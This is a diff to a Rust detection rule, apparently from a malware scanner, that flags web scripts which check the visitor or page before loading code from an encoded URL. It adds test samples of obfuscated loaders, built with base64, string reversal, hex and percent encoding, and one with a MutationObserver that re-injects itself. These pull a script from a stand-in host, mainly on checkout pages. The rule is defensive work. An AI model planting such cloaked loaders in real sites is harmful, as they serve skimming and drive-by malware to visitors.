@@ -6,7 +6,7 @@ use crate::{ClassSet, Severity};
 
 pub(super) const SIGNAL: Signal = Signal {
     id: "coded-script-after-a-look",
-    description: "The script checks the visitor or the page, or removes its traces, and loads code from an encoded URL.",
+    description: "The script checks the visitor or the page, or watches over its traces, and loads code from an encoded URL.",
     severity: Severity::High,
     classes: ClassSet::MALWARE,
     needs: &[
@@ -20,6 +20,10 @@ pub(super) const SIGNAL: Signal = Signal {
             Atom::PageClick,
             Atom::LocalTime,
             Atom::Devtools,
+            Atom::BrowserCheck,
+            Atom::Cookie,
+            Atom::Storage,
+            Atom::RemovalsWatched,
         ]),
     ],
     within: 120,
@@ -29,6 +33,10 @@ pub(super) const SIGNAL: Signal = Signal {
         with: &[
             r#"if(/checkout/.test(location.pathname)){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)}"#,
             r#"(function(d){var s=d.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');s.onload=function(){d.head.removeChild(s)};d.head.appendChild(s)})(document)"#,
+            r#"(async()=>{if(location.hostname==='localhost'||!/checkout/.test(location.pathname))return;const m=await import('sjm.a/elpmaxe.tsoh-dedoc//:sptth'.split('').reverse().join(''));m.run()})()"#,
+            r#"if(!document.cookie.includes('seen=')&&/Android/.test(navigator.userAgent)){document.cookie='seen=1';document.write(unescape('%3Cscript%20src%3D%22%68%74%74%70%73%3A%2F%2Fcoded%2D%68%6F%73%74%2E%65%78%61%6D%70%6C%65%2F%61%2E%6A%73%22%3E%3C/script%3E'))}"#,
+            r#"(d=>{const u=atob('Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw=='),put=()=>{const s=d.createElement('script');s.src=u;d.head.append(s)};put();new MutationObserver(l=>l.forEach(m=>m.removedNodes.forEach(put))).observe(d.head,{childList:true})})(document)"#,
+            r#"const u=["\x68\x74\x74\x70\x73\x3a\x2f\x2fcoded\x2dhost.example/a.js"];if(/Mobi/.test(navigator.userAgent)){let s=document.createElement('script');s.src=u[0];document.body.append(s)}"#,
         ],
         without: &[
             r#"(function(d){var s=d.createElement('script');s.src='https://coded-host.example/a.js';s.onload=function(){d.head.removeChild(s)};d.head.appendChild(s)})(document)"#,
